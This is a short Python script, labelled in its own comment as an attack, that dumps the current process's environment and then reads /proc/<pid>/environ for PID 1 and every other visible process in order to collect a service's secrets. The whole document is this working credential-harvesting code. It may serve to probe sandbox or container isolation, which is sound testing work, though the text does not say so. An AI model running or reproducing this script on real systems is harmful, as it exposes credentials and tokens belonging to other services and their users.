# Attack: read the service's secrets through the environment of this
# process, of PID 1, and of every process visible in /proc.
import os
print("ENV", dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("PROC", pid, open(f"/proc/{pid}/environ", "rb").read())
        except OSError as e:
            print("PROC", pid, "unreadable", e.errno)
